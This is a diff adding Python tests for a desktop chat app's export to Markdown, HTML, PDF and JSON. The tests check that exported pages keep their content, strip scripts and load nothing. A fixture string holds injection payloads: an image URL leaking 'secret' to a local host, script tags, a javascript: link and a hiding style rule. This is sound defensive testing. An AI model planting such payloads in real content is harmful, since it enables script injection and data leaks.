@@ -1,0 +1,70 @@
+"""H16: what goes out as Markdown, web page or PDF says what was on the page, and loads nothing."""
+
+from __future__ import annotations
+
+import time
+from typing import TYPE_CHECKING
+
+from desktop.exchange.pages import markdown, web_page
+from desktop.exchange.whole import whole
+from desktop.exchange.writing import exported
+from desktop.history.records import ChatRecord, MessageRecord
+from desktop.store import Store
+from tests.desktop.history.library import ODD
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from tests.desktop.stage import MakeStage
+
+HOSTILE = (
+    "![x](http://127.0.0.1:9/p?d=secret) <img src=http://127.0.0.1:9/> <script>alert(1)</script>"
+    " [l](javascript:alert(1)) <style>body{display:none}</style>\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```\n<b>\n```\n"
+)
+
+
+def test_a_chat_as_markdown_has_what_was_on_the_page(stage: MakeStage) -> None:
+    one = stage().ready().ask("First?")
+    one.window.again()
+    one.wait(lambda: not one.conversation.is_writing)
+    text = markdown(whole(one.window.history.store, one.conversation.id))
+    assert text.startswith("# First?\n")
+    assert "## You\n\nFirst?\n" in text
+    assert text.count("They carry **salt** and *silver light*") == 1
+    assert "*58 tok/s · first 0.2 s" in text
+    assert "seed 7*" in text
+
+
+def hostile(store: Store) -> int:
+    now = time.time()
+    chat = ChatRecord(store.new_id(), "<script>t</script>", now, now)
+    question = MessageRecord(store.new_id(), chat.id, None, "user", HOSTILE + ODD, now)
+    answer = MessageRecord(store.new_id(), chat.id, question.id, "assistant", HOSTILE + ODD, now + 1)
+    store.put(chat, question, answer)
+    return chat.id
+
+
+def test_h16_a_web_page_holds_no_script_and_fetches_nothing(tmp_path: Path) -> None:
+    store = Store(tmp_path)
+    page = web_page(whole(store, hostile(store)))
+    assert "<script" not in page
+    assert "<img" not in page
+    assert 'href="javascript' not in page
+    assert "src=" not in page.replace("src=http://127.0.0.1:9/&gt;", "")
+    assert page.count("<style>") == 1
+    assert "&lt;script&gt;t&lt;/script&gt;" in page
+    assert "<td>1</td>" in page
+    assert 'dir="auto"' in page
+    assert "default-src 'none'" in page
+
+
+def test_each_form_is_written_whole(stage: MakeStage, tmp_path: Path) -> None:
+    one = stage().ready()
+    store = one.window.history.store
+    chat = hostile(store)
+    for ending, begin in ((".md", b"# "), (".html", b"<!DOCTYPE html>"), (".pdf", b"%PDF-"), (".json", b"{")):
+        path = tmp_path / f"out{ending}"
+        assert max(exported(store, [chat], path)) == 2
+        assert path.read_bytes().startswith(begin)
+    assert (tmp_path / "out.pdf").read_bytes().rstrip().endswith(b"%%EOF")
+    assert not list(tmp_path.glob("*.part"))
